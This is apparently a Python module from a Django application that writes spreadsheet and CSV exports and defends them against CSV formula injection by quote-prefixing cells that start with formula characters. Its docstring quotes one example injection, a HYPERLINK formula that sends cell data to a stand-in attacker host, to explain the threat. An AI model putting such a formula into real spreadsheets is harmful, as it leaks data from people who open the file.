"""Writing spreadsheets safely; every export that writes a workbook goes through here. Imports no app.

A text cell that starts with = + - @ (or tab, CR, LF) is a formula to a spreadsheet program, so a name such as
`=HYPERLINK("http://evil.example/?leak="&A1)` would run on opening (OWASP: CSV injection). Every text is written
as a string cell (never a formula) and, when it starts with one of those characters, with Excel's quote prefix:
the cell shows the text as stored and stays text when edited. Control characters, which XLSX cannot hold, are
dropped (tab and line breaks kept). `workbook_bytes` checks every cell once more before saving.
"""

import io
from collections.abc import Callable, Iterable
from typing import Any

from django.http import Http404, HttpResponse
from openpyxl import Workbook
from openpyxl.cell.cell import ERROR_CODES, Cell, WriteOnlyCell
from openpyxl.worksheet.worksheet import Worksheet

from core.validators import strip_control_characters

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width


def safe_text(value: str) -> str:
    """The text as a cell may hold it: control characters other than tab and line feed dropped."""
    return strip_control_characters(str(value))


def neutralise_cell(cell: Cell) -> Cell:
    """Make a cell holding text a plain string cell: never a formula, quote-prefixed when it looks like one."""
    if isinstance(cell.value, str):
        text = safe_text(cell.value)
        cell.value = text
        cell.data_type = "s"
        if text.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True
    return cell


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """`sheet.append(values)` with every text written as safe text (numbers and dates are kept as they are)."""
    values = [safe_text(value) if isinstance(value, str) else value for value in values]
    sheet.append(values)
    for cell in sheet[sheet.max_row]:
        neutralise_cell(cell)


def safe_cells(sheet: Any, values: Iterable[Any], *, font: Any = None) -> list[Any]:
    """A row for a write-only sheet (openpyxl's streaming mode, which keeps no cell in memory once written): every
    text a safe string cell (never a formula, quote-prefixed when it looks like one), numbers and dates as they are.

    Plain values (numbers, dates, text that neither starts like a formula nor reads as an error code such as
    #N/A) go as they are: openpyxl writes them through one cell it reuses, and a cell object per value cost half
    of writing the year's workbook (40,000 rows at a million events). The rest, and every value of a styled row,
    go as neutralised cells."""
    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            value = safe_text(value)
        plain = not isinstance(value, str) or not (value.startswith(FORMULA_TRIGGERS) or value in ERROR_CODES)
        if font is None and plain:
            row.append(value)
            continue
        cell = WriteOnlyCell(sheet, value=value)
        neutralise_cell(cell)
        if font is not None:
            cell.font = font
        row.append(cell)
    return row


def workbook_bytes(workbook: Workbook) -> bytes:
    """The workbook as the bytes of an .xlsx file; no text cell leaves as a formula, whatever wrote it. A write-only
    workbook's rows went through `safe_cells` already (its cells cannot be read back)."""
    if workbook.write_only:
        buffer = io.BytesIO()
        workbook.save(buffer)
        return buffer.getvalue()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                neutralise_cell(cell)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
# The formats a list exports to (its page's export.<fmt> and its API's export/?format=<fmt>)
EXPORT_TYPES = {"xlsx": XLSX_CONTENT_TYPE, "csv": CSV_CONTENT_TYPE}


def export_response(table: Callable[[Any, str], bytes], records: Any, fmt: str, name: str) -> HttpResponse:
    """A list page's export: `table(records, fmt)` (a filtered queryset as XLSX or CSV) as a download named
    `name.fmt`; an unknown format is a 404."""
    if fmt not in EXPORT_TYPES:
        raise Http404
    response = HttpResponse(table(records, fmt), content_type=EXPORT_TYPES[fmt])
    response["Content-Disposition"] = f'attachment; filename="{name}.{fmt}"'
    return response


def csv_safe(value: Any) -> Any:
    """A CSV cell as text that no spreadsheet runs as a formula: a leading = + - @ gets Excel's quote prefix (').
    The importers strip that quote again (core.imports.TextWidget), so a round trip keeps the text."""
    if isinstance(value, str):
        text = safe_text(value)
        return "'" + text if text.startswith(FORMULA_TRIGGERS) else text
    return value


def table_bytes(headers: list[str], rows: Iterable[Iterable[Any]], fmt: str, *, title: str = "") -> bytes:
    """A table as the bytes of an .xlsx workbook (one sheet) or a UTF-8 CSV file with a BOM (so Excel reads it)."""
    if fmt == "csv":
        import csv

        buffer = io.StringIO()
        writer = csv.writer(buffer)
        writer.writerow([csv_safe(h) for h in headers])
        for row in rows:
            writer.writerow(["" if v is None else csv_safe(v) for v in row])
        return ("\ufeff" + buffer.getvalue()).encode("utf-8")
    workbook = Workbook()
    sheet = workbook.active
    if title:
        sheet.title = title[:31]
    append_row(sheet, headers)
    for row in rows:
        append_row(sheet, row)
    return workbook_bytes(workbook)
